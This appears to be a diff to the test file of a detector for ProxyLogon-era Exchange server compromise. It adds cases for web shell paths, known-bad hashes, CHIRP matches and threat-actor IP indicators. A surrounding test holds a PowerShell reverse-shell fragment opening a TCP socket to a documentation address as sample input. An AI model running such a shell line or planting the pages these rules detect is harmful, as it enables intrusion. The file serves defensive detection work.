@@ -89,6 +89,21 @@ const es = "exchange_ecp_server";
 const tplHit = "test_proxylogon_hit";
 const tplPath = "test_proxylogon_path";
 const tplClaim = "test_proxylogon_claim";
+const listing = "file_listing";
+const frontEnd = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\";
+const wwwroot = "C:\\inetpub\\wwwroot\\";
+const compiled =
+  "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\8e05b027\\e164d61b\\";
+const listed = (path: string, more: Fields = {}): Fields => ({
+  Path: path,
+  Owner: "BUILTIN\\Administrators",
+  WrittenYear: "2020",
+  ...more,
+});
+const bySystem = { Owner: "NT AUTHORITY\\SYSTEM", WrittenYear: "2021" };
+const comparison = "compare_exchange_hashes";
+const compared = (Error: string, path: string): Fields => ({ Error, FilePath: path, VDir: "Default Web Site/owa" });
+const chirped = (fields: Fields): Fields => ({ Indicator: "Sample indicator", ...fields });
 const machine = { "cs-username": "CONTOSO\\EX01$" };
 
 /** Rule, kind, a row it must be the only finding of, and a near row that must not give it. */
@@ -350,6 +365,85 @@ const cases: [string, string, Fields, Fields][] = [
   ],
   ["msert-ransomware", "msert_threat", { Threat: "Ransom:Win32/DoejoCrypt.A" }, { Threat: "Trojan:JS/Chopper!dha" }],
   ["msert-threat", "msert_threat", { Threat: "Trojan:Win32/Other" }, { Threat: "Backdoor:ASP/SecChecker.A" }],
+  [
+    "listing-page-aspnet-client",
+    listing,
+    listed(`${wwwroot}aspnet_client\\Outlook.ashx`, bySystem),
+    listed(`${wwwroot}aspnet_client\\system_web\\4_0_30319\\WebForms.js`, bySystem),
+  ],
+  [
+    "listing-page-auth",
+    listing,
+    listed(`${frontEnd}owa\\auth\\RedirSuiteServer.aspx`, bySystem),
+    listed(`${frontEnd}owa\\auth\\RedirSuiteServiceProxy.aspx`, bySystem),
+  ],
+  [
+    "listing-page-by-system",
+    listing,
+    listed(`${wwwroot}x.aspx`, bySystem),
+    listed(`${wwwroot}x.aspx`, { WrittenYear: "2021" }),
+  ],
+  ["listing-page-new", listing, listed(`${wwwroot}x.aspx`, { WrittenYear: "2021" }), listed(`${wwwroot}x.aspx`)],
+  [
+    "listing-compiled-page",
+    listing,
+    listed(`${compiled}App_Web_bxztulm2.dll`),
+    listed(`${compiled}App_global.asax.dll`),
+  ],
+  [
+    "compare-known-bad-hash",
+    comparison,
+    compared("KnownBadHash", `${wwwroot}x.aspx`),
+    compared("NoHashMatch", `${wwwroot}x.aspx`),
+  ],
+  [
+    "compare-suspicious",
+    comparison,
+    compared("Suspicious", `${wwwroot}x.aspx`),
+    compared("NoHashMatch", `${wwwroot}x.aspx`),
+  ],
+  [
+    "compare-unknown-page",
+    comparison,
+    compared("NoHashMatch", `${frontEnd}owa\\auth\\logon.aspx`),
+    compared("NoHashMatch", `${frontEnd}owa\\auth\\flogon.js`),
+  ],
+  [
+    "compare-unknown-file",
+    comparison,
+    compared("NoHashMatch", `${frontEnd}owa\\auth\\flogon.js`),
+    compared("NoHashMatch", `${frontEnd}owa\\scripts\\owa.strings.localized.js`),
+  ],
+  [
+    "chirp-webshell",
+    "chirp_match",
+    chirped({ Part: "yara", Rule: "webshell_aspx_sportsball", File: "C:\\Temp\\a.aspx" }),
+    chirped({ Part: "yara", Rule: "ecp_user_agents", File: "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log" }),
+  ],
+  [
+    "chirp-yara-match",
+    "chirp_match",
+    chirped({ Part: "yara", Rule: "ecp_user_agents", File: "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log" }),
+    chirped({ Part: "events", Provider: "MSExchange Unified Messaging" }),
+  ],
+  [
+    "chirp-event-match",
+    "chirp_match",
+    chirped({ Part: "events", Provider: "MSExchange Unified Messaging" }),
+    chirped({ Part: "registry", Key: "Updater" }),
+  ],
+  [
+    "chirp-registry-match",
+    "chirp_match",
+    chirped({ Part: "registry", Key: "Updater" }),
+    chirped({ Part: "network", RemoteAddress: "192.0.2.14" }),
+  ],
+  [
+    "chirp-network-match",
+    "chirp_match",
+    chirped({ Part: "network", RemoteAddress: "192.0.2.14" }),
+    chirped({ Part: "yara", Rule: "ecp_user_agents" }),
+  ],
   ["msert-aborted-run", "msert_run", { Outcome: "incomplete" }, { Outcome: "nothing_found" }],
 ];
 
@@ -413,6 +507,37 @@ describe("Ordinary rows", () => {
       "an administrator in the control panel",
       log,
       iis("POST", "/ecp/DDI/DDIService.svc/GetObject", "200", { "cs-username": "CONTOSO\\admin" }),
+    ],
+    ...[
+      "errorFE",
+      "ExpiredPassword",
+      "frowny",
+      "logoff",
+      "logon",
+      "OutlookCN",
+      "RedirSuiteServiceProxy",
+      "signout",
+    ].map((name): [string, string, Fields] => [
+      `the shipped page ${name} after an update`,
+      listing,
+      listed(`${frontEnd}owa\\auth\\${name}.aspx`, bySystem),
+    ]),
+    ["the shipped page of ECP", listing, listed(`${frontEnd}ecp\\auth\\TimeoutLogoff.aspx`, bySystem)],
+    [
+      "a page of the back end after an update",
+      listing,
+      listed(`C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\ecp\\Reporting.aspx`, bySystem),
+    ],
+    [
+      "a script of OWA after an update",
+      listing,
+      listed(`${frontEnd}owa\\auth\\15.2.792\\scripts\\flogon.js`, bySystem),
+    ],
+    ["a part of CHIRP that found nothing", "chirp_run", { Part: "events", Outcome: "nothing_found", Matches: "0" }],
+    [
+      "a script with translated texts, which no baseline holds",
+      comparison,
+      compared("NoHashMatch", `${frontEnd}owa\\prem\\15.2.792.3\\scripts\\de\\owa.strings.localized.js`),
     ],
   ])("give no finding and no sighting: %s", (_name, kind, fields) => {
     expect(detect([{ kind, fields }])).toEqual({ findings: [], sightings: [] });
@@ -628,6 +753,24 @@ describe("Indicators", () => {
     expect(detector.result().findings.map(({ ruleName }) => ruleName)).toContain("indicator-filepath");
   });
 
+  it("see hash, path and place of a web shell in a listing, each in a finding of its own, with the time it was written", () => {
+    const at = Date.parse("2021-03-03T06:59:22Z");
+    const sha256 = "695D4A81CE526A136351CD8EEBA5C452D0AB79438FE467922A0BD61DB87CEF93";
+    const fields = listed(`${wwwroot}aspnet_client\\supp0rt.aspx`, { ...bySystem, SHA256: sha256 });
+    const { findings, sightings: seen } = detect([{ kind: listing, fields, at }]);
+    expect(byName(findings).map(({ ruleName, severity, firstAt }) => [ruleName, severity, firstAt])).toEqual([
+      ["indicator-filepath", "high", at],
+      ["indicator-filepath-regex", "medium", at],
+      ["indicator-sha256", "critical", at],
+      ["listing-page-aspnet-client", "high", at],
+    ]);
+    expect(findings.find(({ ruleName }) => ruleName === "listing-page-aspnet-client")).toMatchObject({
+      entity: `${wwwroot}aspnet_client\\supp0rt.aspx`,
+      proposes: "implanted",
+    });
+    expect(seen.map(({ type }) => type)).toEqual(expect.arrayContaining(["sha256", "filepath", "filepath_regex"]));
+  });
+
   it("count a socket client only as part of the reverse shell it is listed for", () => {
     const shell =
       "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();$s.Write($b,0,9)";
@@ -651,6 +794,16 @@ describe("Indicators", () => {
         ["103.77.192.219", "medium"],
         ["165.232.154.116", "high"],
       ]);
+  });
+
+  it("see a listed address in the output of CHIRP with its port, and stay quiet about it", () => {
+    const fields = chirped({ Part: "network", RemoteAddress: "165.232.154.116:443" });
+    const { findings, sightings: seen } = detect([{ kind: "chirp_match", fields, at: null }]);
+    expect(seen).toMatchObject([{ type: "ipv4", value: "165.232.154.116", cluster: "UNC2639" }]);
+    expect(byName(findings).map(({ ruleName, severity, proposes }) => [ruleName, severity, proposes])).toEqual([
+      ["chirp-network-match", "low", null],
+      ["indicator-ipv4", "low", null],
+    ]);
   });
 
   it("name those that wait for other kinds of evidence", () => {
